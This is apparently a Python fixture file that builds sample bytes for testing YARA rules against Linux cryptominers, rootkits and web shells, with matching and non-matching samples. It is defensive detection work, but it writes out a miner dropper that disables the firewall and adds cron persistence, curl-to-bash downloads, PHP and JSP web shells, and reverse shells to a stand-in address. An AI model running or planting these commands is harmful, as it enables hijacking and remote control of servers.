"""Sample bytes for our YARA rules: a header and the words that a rule looks for, never a program.

The words are put together here, so that a virus scanner on the examiner's host does not take this file away.
"""

import base64

from Crypto.Hash import keccak

ALPHABET = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def monero_address(network: int = 18, size: int = 64) -> str:
    """Return a Monero address over made-up keys whose checksum is right (95 letters, 106 with ``size`` 72)."""
    payload = bytes([network]) + bytes(range(1, size + 1))
    payload += keccak.new(digest_bits=256, data=payload).digest()[:4]
    letters = []
    for start in range(0, len(payload), 8):
        block = payload[start : start + 8]
        number, width = int.from_bytes(block, "big"), {8: 11, 5: 7}[len(block)]
        letters.append("".join(ALPHABET[number // 58**power % 58] for power in reversed(range(width))))
    return "".join(letters)


WALLET = monero_address()


def elf(*strings: str, kind: int = 2) -> bytes:
    """Return an ELF header (64 bits, little endian, no section table) of a type, and strings after it."""
    head = b"\x7fELF\x02\x01\x01".ljust(16, b"\0") + kind.to_bytes(2, "little") + b"\x3e\0" + b"\x01\0\0\0"
    return head.ljust(64, b"\0") + b"\0".join(string.encode() for string in strings) + b"\0"


def upx(magic: bytes) -> bytes:
    """Return an ELF file with the headers that UPX writes, under a magic."""
    head = bytearray(elf())
    head[56:58] = (3).to_bytes(2, "little")
    head = head[:64].ljust(64 + 3 * 56, b"\0")
    loader = b"\xea\x3e\xb6\x2f" + magic + b"\x84\x09\x0d\x16" + bytes(4) + b"\x20\xbf\x4d\0" * 2
    return bytes(head + loader + bytes(range(256)) * 64 + magic + bytes(32))


def script(*lines: str, interpreter: str = "/bin/bash") -> bytes:
    """Return a script of lines."""
    return "\n".join((f"#!{interpreter}", *lines, "")).encode()


def hidden(text: str) -> str:
    """Return the text in base64, at an odd place."""
    return base64.b64encode(b"x" + text.encode() + b" " * 40).decode()


POOL = "stratum" + "+tcp://pool.example:3333"
FETCH = "curl -fsSL http://203.0.113.9/a"
DROPPER = script(
    "setenforce 0",
    "ufw " + "disable",
    "pkill -f " + "kdevtmpfsi",
    "pkill -f " + "xmrig",
    "ps aux | grep 'min" + "erd' | awk '{print $2}' | xargs kill -9",
    FETCH + " -o /tmp/.x/a",
    "chmod +x /tmp/.x/a",
    "nohup /tmp/.x/a &",
    "echo '* * * * * /tmp/.x/a' | crontab -",
)
CONFIG = '{"autosave": true, "cpu": {"huge-pages": true, "max-threads-hint": 100}, "donate-level": 1, %s}'
POOLS = '"pools": [{"algo": "rx/0", "url": "pool.example:3333", "user": "w", "pass": "x", "keepalive": true}]'

POSITIVE: dict[str, list[bytes]] = {
    "xmrig_elf": [
        elf("XMRig 6.22.2", "stratum+tcp://", "cn-heavy/xhv", "cryptonight-lite", "donate-level"),
        elf(
            "XMRig/%s libuv/%s", "stratum+tcp://", "fee.xmrig.com", "donate-level", "max-cpu-usage", "cryptonight-lite"
        ),
        elf("stratum+tcp://", "stratum+ssl://", "cn/half", "rx/wow", "argon2/chukwa", "donate-level", "rig-id"),
        elf("cn/half", "rx/wow", "cn-lite/1", "cryptonight-pico", "donate-level", "rig-id", "cpu-affinity"),
    ],
    "cpuminer_elf": [elf("User-Agent: cpuminer/2.5.1", "Stratum requested work restart")],
    "xmr_stak_elf": [elf("xmr-stak 2.10.8", "HASHRATE REPORT - CPU", "Pool logged in.")],
    "gpu_miner_elf": [elf("lolMiner 1.88", "stratum+tcp://", "etchash")],
    "stratum_miner_elf": [
        elf("Go build ID: x", "stratum+tcp://", "mining.subscribe", "hashrate"),
        elf("mining.subscribe", "mining.authorize", "mining.submit", "%.2f H/s"),
    ],
    "pool_address_elf": [elf(POOL), elf("xmr-eu1.nanopool.org:14433")],
    "wallet_in_miner_elf": [elf("donate-level", WALLET)],
    "xmrig_config": [
        (CONFIG % POOLS).encode(),
        b'{"url": "198.51.100.7:443", "user": "x", "pass": "x", "algo": "cryptonight", "av": 0}'.replace(
            b't"', b't/1"'
        ),
        f'{{ // ours\n "algo": "cryptonight/1",\n "url":"198.51.100.7:80",\n"user":"{WALLET}", "pass": "x" }}'.encode(),
        f'{{"url" : "{POOL}", "user" : "w", "pass" : "x"}}'.encode(),
    ],
    "xmrig_config_without_pool": [
        (CONFIG % '"donate-over-proxy": 1, "rig-id": null, "health-print-time": 60').encode(),
    ],
    "miner_pool_list": [b'{"pools":[{"url":"198.51.100.7:443","user":"x","pass":"x","tls":true}]}'],
    "xmr_stak_config": [b'"pool_list" : [{"pool_address" : "pool.example:3333", "wallet_address" : "w"}],'],
    "miner_command_line": [
        f"*/5 * * * * /var/tmp/.a/kswapd0 -o 198.51.100.7:443 -u {WALLET} -k\n".encode(),
        f"ExecStart=/opt/.x/sysd -o {POOL} -u w --donate-level 1\n".encode(),
        script(" ".join(["./x" + "mrig -o", "198.51.100.7:443", "-u", "w"])),
        b'Popen(["/opt/.x/a", "-o", "198.51.100.7:443", "-u", "w", "--donate-level", "1"])',
    ],
    "stratum_url_in_script": [script(f"P={POOL}")],
    "pool_domain_in_script": [script("P=pool.support" + "xmr.com:443")],
    "stratum_url_in_text": [f"pool = {POOL}\n".encode()],
    "base64_miner_options": [
        hidden(f"-o {POOL}").encode(),
        f"x = '{hidden('a --donate-level 1')}'".encode(),
        f"x = '{hidden('ab --donate-level 1')}'".encode(),
    ],
    "miner_dropper_script": [
        DROPPER,
        DROPPER.removeprefix(b"#!/bin/bash\n"),
        script(
            *(
                f"ps aux | grep '{name}' | awk '{{print $2}}' | xargs -I % kill -9 %"
                for name in ("kdevtmpfsi", "kinsing")
            ),
            'WGET="wget -O"',
            "$WGET /opt/a http://203.0.113.5/a",
            "chmod u+x /opt/a",
            "crontab -l | sed /x/d | crontab -",
        ),
    ],
    "miner_install_script": [
        script("wget https://host.example/x" + "mrig-6.22.tar.gz", "tar xf x.tar.gz", "chmod +x x"),
    ],
    "kills_miners": [script("pkill -f " + "kinsing", "killall -9 " + "kdevtmpfsi")],
    "kills_rival_miners": [script("pkill -f " + "kinsing", "killall -9 " + "kdevtmpfsi", "nohup /opt/a &")],
    "download_from_address_piped_to_shell": [(FETCH + ".sh | " + "bash\n").encode()],
    "download_piped_to_shell": [
        script("curl -fsSL https://h.example/a.sh | " + "bash"),
        script('bash -c "$(' + 'wget -qO- https://h.example/a)"'),
        script("bash <(" + "curl -s https://h.example/a)"),
    ],
    "download_twice_piped_to_shell": [
        ("(curl -s http://h.example/a||" + "wget -q -O - http://h.example/a)|sh").encode()
    ],
    "base64_piped_to_shell": [
        f"echo {hidden('curl http://h.example/a')} | ".encode() + b"base64 -d | bash\n",
        b"import base64;exec(base64." + f"b64decode('{hidden('import os; os.system(1)')}'))".encode(),
    ],
    "base64_shell_download": [
        script(f"X={hidden('curl -fsSL http://h.example/a')}"),
        script("X=f0VMRgIBAQ" + "A" * 240),
    ],
    "kinsing_elf": [elf("main.masscan", "main.redisBrute", "main.backconnect", "main.RC4")],
    "miner_worm_elf": [elf("pkill -f kdevtmpfsi", "crontab -", "curl http://%s")],
    "upx_packed_elf": [upx(b"UPX!")],
    "upx_packed_elf_altered": [upx(b"YTS\x99"), upx(bytes(4))],
    "preload_process_hider": [elf("readdir64", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat", kind=3)],
    "preload_rootkit": [
        elf("dlsym", "/etc/ld.so.preload", "readdir64", "fopen64", "unlinkat", "/proc/net/tcp", kind=3),
    ],
    "kernel_rootkit_module": [
        elf("diamorphine", "kallsyms_lookup_name", kind=1),
        elf("sys_call_table", "__x64_sys_getdents64", "__x64_sys_kill", kind=1),
    ],
    "reptile_userland": [elf("/reptile/reptile_cmd", "hax0r")],
    "php_web_shell": [
        b"<?php @" + b"eval($_POST['a']); ?>",
        b"<?php " + b"eval(gzinflate(base64_decode('7Zx')));",
        b"<? $_GET['f']" + b"($_GET['a']);",
    ],
    "jsp_web_shell": [b"<% Runtime.getRuntime()." + b'exec(request.getParameter("c")); %>'],
    "reverse_shell": [
        b"bash -i " + b">& /dev/tcp/203.0.113.9/4444 0>&1\n",
        b"nc -e " + b"/bin/sh 203.0.113.9 4444\n",
    ],
}
"""For every rule, bytes that it must match."""

PLAIN_CONFIG = b'{"url": "https://api.example:8443", "user": "admin", "retries": 5, "keepalive": true}'
NEGATIVE: dict[str, bytes] = {
    "one word of a miner in a program": elf("XMRig"),
    "one method of Stratum in a program": elf("mining.subscribe", "hashrate"),
    "a node of a currency": elf(
        "RandomX", "Cryptonight variant 1", "hashrate", "donate.getmonero.org", WALLET, "%.2f H/s"
    ),
    "a client of Ethereum": elf("eth_submitWork", "eth_submitHashrate", "eth_getWork", "ethash", "hashrate"),
    "a hash library": elf("cryptonight-lite", "cn/half", "rx/wow", "argon2/chukwa"),
    "a configuration with url and user": PLAIN_CONFIG,
    "a list of databases": b'{"pools": [{"url": "db.example:5432", "user": "app", "password": "x", "max": 9}]}',
    "a block list": b"||coinhive.com^$third-party\n||supportxmr.com^\n0.0.0.0 pool.minexmr.com\n",
    "a rule of an intrusion detection system": b'alert tcp (content:"mining.subscribe"; content:"stratum+tcp://";)\n',
    "a rule of a log monitor": b"- '--cpu-priority='\n- '--donate-level=0'\n- ' -o pool.'\n- 'stratum+tcp://'\n",
    "signatures of a virus scanner": b"Unix.Coinminer.XMRig:0:*:584d526967:cryptonight:donate.v2.xmrig.com\n",
    "prose": b"XMRig connects with stratum+tcp:// to a pool; kinsing is the name of a worm. pkill -f xmrig\n",
    "a wallet alone": f"Donate: {WALLET}\n".encode(),
    "a clean installer": script(
        "curl -fsSL https://get.example/install.sh -o i.sh", "chmod +x i.sh", "systemctl enable x"
    ),
    "a cleaner of processes": script(
        "ps aux | grep java | awk '{print $2}' | xargs kill -9", "curl http://h.example", "nohup x"
    ),
    "an installer piped to a shell": b"curl --proto '=https' -sSf https://sh.example | sh\n",
    "a backup over ssh": b"rsync -e 'ssh -p 22 -o Port=22' -u a b:22\nssh -o BatchMode=yes host:22 -u x\n",
    "a program that reads /proc": elf(
        "readdir64", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat", "/lib64/ld-linux-x86-64.so.2", kind=3
    ),
    "a library for tests": elf("dlsym", "readdir64", "fopen64", "unlinkat", "/proc/self/maps", kind=3),
    "a module of the kernel": elf("kallsyms_lookup_name", "tcp4_seq_show", kind=1),
    "a word of UPX": elf("UPX!"),
    "a page of PHP": b"<?php $name = trim($_POST['name']); echo htmlspecialchars($name); system('ls'); ?>",
    "a scanner that sends PHP": b"-- a scanner\n" * 100 + b"local payload = '<?php eval" + b"($_GET[a]); ?>'",
    "a page that decodes": b"<?php $x = base64_decode($_POST['x']); eval($code);",
    "a test of a port": b"timeout 1 bash -c '</dev/tcp/localhost/80' && echo open\n",
    "base64 of text": base64.b64encode(b"The quick brown fox jumps over the lazy dog. " * 20),
}
"""What stands beside miners and on clean servers: nothing above low may match."""
